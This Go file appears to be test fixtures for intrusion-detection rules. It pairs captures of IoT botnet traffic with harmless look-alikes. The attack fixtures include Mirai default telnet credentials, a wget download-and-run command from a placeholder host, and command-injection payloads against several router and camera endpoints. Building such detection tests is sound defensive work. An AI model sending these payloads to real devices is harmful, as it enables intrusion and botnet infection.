package rulecaptures

import (
	"fmt"
	"net/netip"
)

// login is a telnet conversation up to a shell: name, password, then lines and what comes back.
func login(name, password string, more ...Turn) []Turn {
	return append([]Turn{
		answer("\xff\xfd\x18\xff\xfb\x01(none) login: "), ask(name + "\r\n"), answer(name + "\r\nPassword: "), ask(password + "\r\n"),
	}, more...)
}

// shell is a log-in that succeeded, and one line in the shell.
func shell(line, output string) func(*Scene) {
	return talk(23, login("installer", "S3cr3t-1", answer("\r\nBusyBox v1.20.2\r\n# "), ask(line+"\r\n"), answer(output+"\r\n# "))...)
}

// refused is a telnet log-in that fails.
func refused(name, password string) func(*Scene) {
	return talk(23, login(name, password, answer("\r\nLogin incorrect\r\n"))...)
}

// knocks are first segments to n addresses.
func knocks(from netip.Addr, network string, n int, port uint16) func(*Scene) {
	return func(s *Scene) {
		for i := range n {
			s.Knock(from, netip.MustParseAddr(fmt.Sprintf(network, i+1)), port)
		}
	}
}

// sends is a request of the camera to another host.
func sends(to netip.Addr, port uint16, req string) func(*Scene) {
	return func(s *Scene) { s.Talk(camera, to, port, ask(req), answer(response("200 OK", "text/plain", "ok"))) }
}

// worms are attacks of infected cameras, and a request of the same kind that does no harm.
var worms = []struct {
	sid           uint32
	port          uint16
	attack, clean string
}{
	{9300407, 80, get("/bins/arm7"), get("/firmware/arm7.txt")},
	{9300408, 4044, get("/Mozi.m"), get("/Mozilla.m3u")},
	{9300420, 8080, post("/GponForm/diag_Form?images/", "XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=`id`&ipv=0", form),
		post("/GponForm/diag_Form", "XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=192.168.64.1&ipv=0", form)},
	{9300421, 80, post("/HNAP1/", "<a/>", "SOAPAction: \"http://purenetworks.com/HNAP1/GetDeviceSettings/`id`\"", xmlType),
		post("/HNAP1/", "<a/>", `SOAPAction: "http://purenetworks.com/HNAP1/GetDeviceSettings"`, xmlType)},
	{9300422, 37215, post("/ctrlt/DeviceUpgrade_1", upgrade("$(id)"), xmlType), post("/ctrlt/DeviceUpgrade_1", upgrade("http://192.168.64.2/fw"), xmlType)},
	{9300423, 52869, post("/picdesc.xml", mapping("`id`"), "SOAPAction: urn:schemas-upnp-org:service:WANIPConnection:1#GetStatusInfo", xmlType),
		post("/picdesc.xml", mapping("192.168.64.2"), "SOAPAction: urn:schemas-upnp-org:service:WANIPConnection:1#GetStatusInfo", xmlType)},
	{9300424, 80, post("/cgi-bin/ViewLog.asp", "remote_submit_Flag=1&remote_syslog_Flag=1&remote_host=%3bid%3b%23&remoteSubmit=Save", form),
		post("/cgi-bin/ViewLog.asp", "remote_submit_Flag=1&remote_syslog_Flag=1&remote_host=192.168.64.2&remoteSubmit=Save", form)},
	{9300425, 80, get("/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=ls&curpath=/&currentsetting.htm=1"), get("/setup.cgi?next_file=netgear.cfg&todo=save")},
	{9300426, 49152, post("/soap.cgi?service=&&id&&", "<a/>", "SOAPAction: a#b", xmlType), post("/soap.cgi?service=WANIPConn1", "<a/>", "SOAPAction: a#b", xmlType)},
}

func upgrade(url string) string {
	return `<?xml version="1.0" ?><s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/"><s:Body><u:Upgrade ` +
		`xmlns:u="urn:schemas-upnp-org:service:WANPPPConnection:1"><NewStatusURL>` + url + `</NewStatusURL>` +
		`<NewDownloadURL>http://192.168.64.2/fw</NewDownloadURL></u:Upgrade></s:Body></s:Envelope>`
}

func mapping(client string) string {
	return `<?xml version="1.0" ?><s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/"><s:Body><u:AddPortMapping ` +
		`xmlns:u="urn:schemas-upnp-org:service:WANIPConnection:1"><NewRemoteHost></NewRemoteHost><NewExternalPort>47450</NewExternalPort>` +
		`<NewProtocol>TCP</NewProtocol><NewInternalClient>` + client + `</NewInternalClient><NewEnabled>1</NewEnabled></u:AddPortMapping></s:Body></s:Envelope>`
}

// dht is a question of BitTorrent's directory (BEP 5).
const dht = "d1:ad2:id20:abcdefghij01234567896:target20:mnopqrstuvwxyz123456e1:q9:find_node1:t2:aa1:y1:qe"

func botnetStories() (list []Story) {
	for _, w := range worms {
		list = append(list, Story{SID: w.sid, Attack: sends(outside, w.port, w.attack), Clean: sends(outside, w.port, w.clean)})
	}
	return append(list,
		Story{SID: 9300400, Attack: refused("root", "xc3511"), Clean: refused("installer", "S3cr3t-1")},
		Story{
			SID: 9300401, Also: map[uint32]int{9300400: 5}, Clean: times(5, refused("installer", "S3cr3t-1")),
			Attack: func(s *Scene) {
				for _, password := range []string{"xc3511", "vizxv", "admin", "888888", "xmhdipc"} {
					refused("root", password)(s)
				}
			},
		},
		Story{SID: 9300402, Settings: roles, Attack: knocks(camera, "203.0.113.%d", 2, 23), Clean: knocks(camera, "203.0.113.%d", 2, 123)},
		Story{SID: 9300403, Settings: roles, Attack: knocks(camera, "192.168.64.%d", 12, 2323), Clean: knocks(vms, "192.168.64.%d", 12, 2323)},
		Story{SID: 9300404, Attack: shell("/bin/busybox MIRAI", ""), Clean: shell("/bin/busybox uptime", "up 3 days")},
		Story{
			SID: 9300405, Also: map[uint32]int{9300404: 1}, Attack: shell("/bin/busybox ECCHI", "ECCHI: applet not found"),
			Clean: shell("busybox nano", "nano: applet not found"),
		},
		Story{
			SID: 9300406, Attack: shell("cd /tmp; wget http://203.0.113.9/bins.sh; chmod 777 bins.sh; sh bins.sh", ""),
			Clean: shell("cat /etc/wget.conf", "no such file"),
		},
		Story{
			SID: 9300409, Attack: func(s *Scene) { s.Datagram(camera, outside, 6881, dht) },
			Clean: func(s *Scene) { s.Datagram(camera, vms, 6881, dht[1:]) },
		},
		Story{SID: 9300410, Attack: web(request("GET /", "", "User-Agent: Hello, world")), Clean: web(request("GET /", "", "User-Agent: Hello, world of cameras 1.0"))},
	)
}
